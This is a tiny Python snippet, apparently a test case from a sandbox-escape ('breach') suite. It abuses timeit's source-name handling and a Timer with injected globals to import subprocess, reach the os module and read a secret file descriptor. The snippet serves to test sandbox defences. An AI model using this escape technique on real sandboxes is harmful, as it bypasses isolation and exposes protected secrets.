# timeit compiles under the name that its variable says.
# breach: secret
import json, timeit
timeit.dummy_src_name = json.__file__
found = {}
names = {"found": found}
timeit.Timer("import subprocess as s; found[0] = s", globals=names).timeit(1)
found[0].os.pread(SECRET_FD, 100, 0)
